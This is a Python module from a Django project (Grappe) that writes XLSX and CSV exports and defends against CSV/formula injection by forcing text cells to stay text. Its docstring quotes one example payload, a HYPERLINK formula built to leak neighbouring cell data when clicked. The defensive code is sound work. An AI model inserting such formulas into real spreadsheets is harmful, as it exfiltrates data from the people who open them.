"""Every spreadsheet Grappe writes (XLSX or CSV) is written here, so that one rule holds for all of them: a cell
that holds text is text, never a formula.

A spreadsheet program runs a cell that starts with = + - @ (and, in some, a tab or a carriage return) as a
formula: a trade name such as `=HYPERLINK("https://…?leak="&B3,"Click me")` would become a link that sends
the neighbouring cells away when a staff member clicks it (OWASP, "CSV injection"). So:

- in an XLSX, text is stored as a string cell (never as a formula cell), and text that starts like a formula
  also gets Excel's "quote prefix" style, its own mark for text typed after a quote: the cell reads exactly
  as the person wrote it and stays text when someone edits it;
- in a CSV, which has no types, such text is written after a single quote, as OWASP says. The importer
  (`members.services.imports.files`) takes that quote off again, so an export imports back unchanged.

Numbers, dates and booleans are written as what they are, so that they still add up and sort.
"""

import csv as csv_module
import io
import re
from collections.abc import Iterable, Sequence
from dataclasses import dataclass

from django.utils.functional import Promise
from openpyxl import Workbook
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter


FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
CSV_TEXT_MARK = "'"
# Control characters a workbook may not hold: openpyxl refuses the whole file for one of them.
FORBIDDEN_IN_XLSX = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
SHEET_TITLE_FORBIDDEN = re.compile(r"[\\/?*\[\]:]")
@dataclass(frozen=True)
class Sheet:
    """One sheet: its title, its first row (bold and kept in view when scrolling), then its rows."""

    title: str
    headers: Sequence
    rows: Iterable[Sequence]


def looks_like_formula(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_START)


def xlsx(*sheets: Sheet) -> bytes:
    """A workbook with one worksheet per sheet, in order."""
    book = Workbook()
    book.remove(book.active)
    for sheet in sheets:
        _write_worksheet(book.create_sheet(SHEET_TITLE_FORBIDDEN.sub(" ", str(sheet.title))[:31]), sheet)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _write_worksheet(worksheet, sheet: Sheet) -> None:
    bold = Font(bold=True)
    widths: dict[int, int] = {}
    for row_number, values in enumerate([sheet.headers, *sheet.rows], 1):
        for column, value in enumerate(map(_plain, values), 1):
            cell = worksheet.cell(row=row_number, column=column)
            if isinstance(value, str):
                cell.value = FORBIDDEN_IN_XLSX.sub("", value)
                cell.data_type = "s"  # openpyxl would store text starting with "=" as a formula
                cell.quotePrefix = looks_like_formula(value)
            else:
                cell.value = value
            if row_number == 1:
                cell.font = bold
            widths[column] = max(widths.get(column, 0), len(str(value if value is not None else "")))
    worksheet.freeze_panes = "A2"
    for column, width in widths.items():
        worksheet.column_dimensions[get_column_letter(column)].width = min(60, max(10, width + 2))


def csv(sheet: Sheet) -> bytes:
    """The sheet as comma-separated UTF-8 text; its title is not part of a CSV."""
    out = io.StringIO()
    writer = csv_module.writer(out)
    for values in [sheet.headers, *sheet.rows]:
        writer.writerow([_csv_cell(_plain(value)) for value in values])
    return out.getvalue().encode()


def _plain(value):
    """A lazy translation (a label of the code) is the text of the active language."""
    return str(value) if isinstance(value, Promise) else value


def _csv_cell(value):
    if value is None:
        return ""
    if looks_like_formula(value):
        return CSV_TEXT_MARK + value
    return value.isoformat() if hasattr(value, "isoformat") else value


def without_csv_text_mark(text: str) -> str:
    """A CSV cell as it was before `csv` protected it: "'=A1" is "=A1" again; other text is left alone."""
    if text.startswith(CSV_TEXT_MARK) and looks_like_formula(text[1:]):
        return text[1:]
    return text
